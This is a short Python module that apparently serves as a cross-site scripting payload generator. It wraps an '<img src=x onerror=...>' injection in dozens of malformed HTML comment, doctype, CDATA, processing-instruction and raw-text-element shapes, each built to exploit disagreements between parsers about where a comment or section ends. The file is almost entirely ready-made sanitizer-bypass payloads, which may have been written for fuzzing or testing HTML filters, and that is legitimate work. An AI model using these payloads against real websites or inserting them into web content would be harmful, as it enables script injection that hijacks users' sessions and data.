"""Comments, declarations and sections whose end is seen in different places."""

from __future__ import annotations

from collections.abc import Iterator

_RUN = "<img src=x onerror=@run@>"
_SHAPES = (
    *("<!--{}-->", "<!-->{}-->", "<!--->{}-->", "<!----!>{}-->", "<!--x--!>{}-->", "<!-- --!\n>{}-->", "<!-- -- >{}-->", "<!---->{}<!---->"),
    *("<!--\0-->{}", "<!-\0-x-->{}", "<!- -{}-->", "<! --{}-->", "<!x>{}", "<!>{}", "<!x'>'>{}", "<!\">\">{}", "<!DOCTYPE html>{}", "<!DOCTYPE '>{}"),
    *("<!DOCTYPE x \"'>{}\">", "<!DOCTYPE x PUBLIC '>{}'>", "<!ELEMENT x '>{}'>", "<![CDATA[{}]]>", "<![CDATA[>{}]]>", "<![CDATA[<!--]]>{}-->", "<![cdata[{}]]>", "<![if true]>{}<![endif]>"),
    *("<!--[if gte IE 4]>{}<![endif]-->", "<!--[if true]><!-->{}<!--<![endif]-->", "<!--[if<img src=x onerror=@run@ //]>-->{}", "<!--[if IE]>-->{}<!--<![endif]-->"),
    *("<?{}?>", "<?x>{}", "<?x '>'>{}", "<?php echo '{}' ?>", "<?import namespace=t implementation=#default#time2>{}", "<? foo='?>{}'>", "<%{}%>", "<%-- --%>{}<%-- --%>"),
    *("</!-->{}", "</?>{}", "</%>{}", "</->{}", "</ >{}", "</>{}", "<!--<!-->{}-->-->", "<!--<!--x-->{}-->", "<!--x--><!--y--->{}", "<!--`\n-->{}"),
    *("<!-- <a title=\"-->{}\">", "<a title=\"<!--\">{}<a title=\"-->\">", "<a title='<!--'></a>{}<!-- -->", "<style><!--</style>{}--></style>", "<title><!--</title>{}--></title>"),
    *("<textarea><!--</textarea>{}-->", "<xmp><!--</xmp>{}-->", "<script><!--<script></script>{}--></script>", "<script><!--</script>{}-->", "<noscript><!--</noscript>{}-->", "<iframe><!--</iframe>{}-->"),
    *("<comment>{}</comment>", "<comment><img title=\"</comment>{}\">", "<!--\u2028-->{}", "<!--&gt;{}--&gt;", "&lt;!--{}--&gt;", "<!--{}", "<!{}", "<!-{}", "<?{}", "<!--\n--\n>{}-->"),
    *("<select><!--</select>{}-->", "<svg><!--</svg>{}-->", "<math><![CDATA[</math>{}]]>", "<svg><![CDATA[</svg>{}]]></svg>", "<svg><![CDATA[]]]>{}", "<!ATTLIST x y CDATA '>{}'>"),
)  # fmt: skip


def payloads() -> Iterator[str]:
    for shape in _SHAPES:
        yield shape.replace("{}", _RUN)
